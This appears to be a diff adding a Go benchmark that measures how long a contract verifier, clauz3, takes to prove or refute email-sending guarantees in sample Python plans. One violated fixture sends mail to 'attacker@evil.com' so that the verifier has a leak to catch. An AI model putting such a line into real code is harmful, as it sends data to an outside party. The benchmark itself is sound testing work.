@@ -1,0 +1,270 @@
+package benchmarks
+
+import (
+	"bytes"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"sort"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+)
+
+// tablePlans are the loop plans of issue 17's table that scalePlans does
+// not cover, over the seed's shapes (slide 8): a query of users whose
+// result ensures len(result) <= N and sends one email per row. Each plan
+// says the verdict Prove must reach; a refusal fails the benchmark.
+var tablePlans = []struct {
+	name     string
+	violated bool
+	src      string
+}{
+	// provenance: every recipient is a users row's email.
+	{"provenance", false, `import clauz3
+from tools.db.trusted.effects import db_query
+from tools.db.trusted.schemas import UserRow
+from tools.email.trusted import contracts as emails
+from tools.email.trusted.effects import send_email
+
+
+@clauz3.guarantee(emails.addresses_from(UserRow, "email"))
+def main() -> None:
+    for row in db_query("users"):
+        send_email(row.email, "Newsletter is out!")
+`},
+	// provenance_violated: one literal address after the loop.
+	{"provenance_violated", true, `import clauz3
+from tools.db.trusted.effects import db_query
+from tools.db.trusted.schemas import UserRow
+from tools.email.trusted import contracts as emails
+from tools.email.trusted.effects import send_email
+
+
+@clauz3.guarantee(emails.addresses_from(UserRow, "email"))
+def main() -> None:
+    for row in db_query("users"):
+        send_email(row.email, "Newsletter is out!")
+    send_email("attacker@evil.com", "done")
+`},
+	// newsletter: provenance, a count at most N and unique recipients
+	// (UserRow declares email unique).
+	{"newsletter", false, `import clauz3
+from tools.db.trusted.effects import db_query
+from tools.db.trusted.schemas import UserRow
+from tools.email.trusted import contracts as emails
+from tools.email.trusted.effects import send_email
+
+
+@clauz3.guarantee(emails.addresses_from(UserRow, "email"))
+@clauz3.guarantee(emails.count_at_most(%d))
+@clauz3.guarantee(emails.unique_recipients())
+def main() -> None:
+    for row in db_query("users", where={"consented": True}):
+        send_email(row.email, "Newsletter is out!")
+`},
+	// distinct_violated: unique recipients over rows whose email is not
+	// declared unique (MemberRow has no __unique__).
+	{"distinct_violated", true, `import clauz3
+from tools.db.trusted.effects import db_members
+from tools.email.trusted import contracts as emails
+from tools.email.trusted.effects import send_email
+
+
+@clauz3.guarantee(emails.unique_recipients())
+def main() -> None:
+    for row in db_members("members"):
+        send_email(row.email, "Newsletter is out!")
+`},
+}
+
+// tableLayer writes a db layer whose queries ensure len(result) <= n and
+// an email layer like the bundled ones.
+func tableLayer(b *testing.B, n int) string {
+	dir := b.TempDir()
+	files := map[string]string{
+		"tools/__init__.py":               "",
+		"tools/db/__init__.py":            "",
+		"tools/db/trusted/__init__.py":    "",
+		"tools/email/__init__.py":         "",
+		"tools/email/trusted/__init__.py": "",
+		"tools/db/trusted/schemas.py": `import clauz3
+
+
+class UserRow(clauz3.Row):
+    __unique__ = ("id", "email")
+    id: int
+    name: str
+    email: str
+    consented: bool
+
+
+class MemberRow(clauz3.Row):
+    id: int
+    email: str
+`,
+		"tools/db/trusted/effects.py": fmt.Sprintf(`import deal
+
+from tools.db.trusted.schemas import UserRow, MemberRow
+
+
+@deal.pre(lambda table: table == "users")
+@deal.post(lambda result: len(result) <= %[1]d)
+@deal.post(lambda result: all("@" in r.email and "\n" not in r.email and "\r" not in r.email for r in result))
+@deal.has("db_read")
+def db_query(table: str, where: dict[str, object] | None = None) -> list[UserRow]: ...
+
+
+@deal.pre(lambda table: table == "members")
+@deal.post(lambda result: len(result) <= %[1]d)
+@deal.post(lambda result: all("@" in r.email and "\n" not in r.email and "\r" not in r.email for r in result))
+@deal.has("db_read")
+def db_members(table: str) -> list[MemberRow]: ...
+`, n),
+		"tools/email/trusted/effects.py": `import deal
+
+
+@deal.pre(lambda addr, msg: "@" in addr)
+@deal.pre(lambda addr, msg: "\n" not in addr and "\r" not in addr)
+@deal.has("email")
+def send_email(addr: str, msg: str) -> None: ...
+`,
+		"tools/email/trusted/contracts.py": `from clauz3.spec import ContractSpec, contract, effect
+
+Email = effect("email")
+
+
+@contract
+def unique_recipients() -> ContractSpec:
+    return Email.distinct(lambda e: e.addr)
+
+
+@contract
+def count_at_most(n: int) -> ContractSpec:
+    return Email.count() <= n
+
+
+@contract
+def addresses_from(schema: type, field: str) -> ContractSpec:
+    column = getattr(schema, field)
+    return Email.all(lambda e: e.addr == column)
+`,
+	}
+	for name, text := range files {
+		path := filepath.Join(dir, filepath.FromSlash(name))
+		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+			b.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
+			b.Fatal(err)
+		}
+	}
+	return dir
+}
+
+// BenchmarkProveTable runs `clauz3 prove` as a whole process, as issue
+// 17's table measures it, on the provenance, newsletter and distinct
+// plans at N = 10, 100 and 1000, beside `clauz3 help` (the process floor)
+// in the same run. It reports the median CPU time and peak resident
+// memory of the process (cpu-ms, maxrss-MB) and the CPU time as a ratio
+// to the floor's (x-floor), and logs the load average before and after.
+// Each run must reach the plan's verdict: proved, or a failed guarantee
+// with a counterexample; a refusal (a timeout, say) fails the benchmark
+// and prints the output.
+func BenchmarkProveTable(b *testing.B) {
+	bin := clauz3Binary(b)
+	b.Logf("load average before: %s", loadAverage())
+	var floor time.Duration
+	b.Run("floor", func(b *testing.B) {
+		var cpus []time.Duration
+		for range b.N {
+			_, cpu, _ := runProve(b, bin, "help")
+			cpus = append(cpus, cpu)
+		}
+		floor = median(cpus)
+		b.ReportMetric(ms(floor), "cpu-ms")
+	})
+	for _, p := range tablePlans {
+		for _, n := range []int{10, 100, 1000} {
+			root := tableLayer(b, n)
+			src := p.src
+			if strings.Contains(src, "%d") {
+				src = fmt.Sprintf(src, n)
+			}
+			plan := filepath.Join(root, p.name+".py")
+			if err := os.WriteFile(plan, []byte(src), 0o644); err != nil {
+				b.Fatal(err)
+			}
+			b.Run(fmt.Sprintf("%s/N=%d", p.name, n), func(b *testing.B) {
+				var cpus []time.Duration
+				var rss []int64
+				for range b.N {
+					out, cpu, maxrss := runProve(b, bin, "prove", "--import-root", root, plan)
+					if msg := tableVerdict(out, p.violated); msg != "" {
+						b.Fatalf("%s\n%s", msg, out)
+					}
+					cpus = append(cpus, cpu)
+					rss = append(rss, maxrss)
+				}
+				sort.Slice(rss, func(i, j int) bool { return rss[i] < rss[j] })
+				med := median(cpus)
+				b.ReportMetric(ms(med), "cpu-ms")
+				b.ReportMetric(float64(rss[len(rss)/2])/1024, "maxrss-MB")
+				if floor > 0 {
+					b.ReportMetric(ratio(med, floor), "x-floor")
+				}
+			})
+		}
+	}
+	b.Logf("load average after: %s", loadAverage())
+}
+
+// runProve runs bin with args and returns its combined output, its CPU
+// time and its peak resident set in KiB. A failed guarantee exits
+// non-zero, so the exit status is left to tableVerdict; only a process
+// that could not run fails here.
+func runProve(b *testing.B, bin string, args ...string) (string, time.Duration, int64) {
+	b.Helper()
+	cmd := exec.Command(bin, args...)
+	var out bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &out, &out
+	err := cmd.Run()
+	if cmd.ProcessState == nil {
+		b.Fatalf("%s: %v", bin, err)
+	}
+	var maxrss int64
+	if ru, ok := cmd.ProcessState.SysUsage().(*syscall.Rusage); ok {
+		maxrss = ru.Maxrss
+	}
+	return out.String(), cmd.ProcessState.UserTime() + cmd.ProcessState.SystemTime(), maxrss
+}
+
+// tableVerdict says what is wrong with out, the text clauz3 prove printed,
+// for a plan that must be proved (violated false) or must fail with a
+// counterexample; "" when it is right.
+func tableVerdict(out string, violated bool) string {
+	if strings.Contains(out, "refused") || strings.Contains(out, "error") {
+		return "refused"
+	}
+	if !violated {
+		if !strings.Contains(out, ": proved") || strings.Contains(out, "failed") {
+			return "not proved"
+		}
+		return ""
+	}
+	if !strings.Contains(out, "failed guarantee") || !strings.Contains(out, "counterexample:") {
+		return "no failed guarantee with a counterexample"
+	}
+	return ""
+}
+
+// loadAverage is the first line of /proc/loadavg, or why it is missing.
+func loadAverage() string {
+	data, err := os.ReadFile("/proc/loadavg")
+	if err != nil {
+		return err.Error()
+	}
+	return strings.TrimSpace(string(data))
+}
